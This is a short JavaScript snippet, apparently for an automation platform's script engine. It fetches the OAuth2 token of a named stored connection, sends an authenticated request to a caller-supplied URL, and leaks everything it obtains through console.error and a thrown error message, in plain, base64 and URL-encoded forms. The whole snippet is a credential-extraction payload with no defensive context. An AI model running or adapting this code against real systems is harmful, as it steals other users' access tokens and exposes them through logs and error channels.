// Ends with what it has got hold of.

const name = engine.findDataByVarName("q_name"), url = engine.findDataByVarName("q_url");
let got = "";
try { got += httpClient.getOAuth2Token(name) } catch (e) { got += e }
try { got += httpClient.begin().authSetting(name).get(url + "/api/echo").getResponseAsString() } catch (e) { got += e }
console.error(got, base64.encodeToString(got));
throw new Error(got + encodeURIComponent(got));
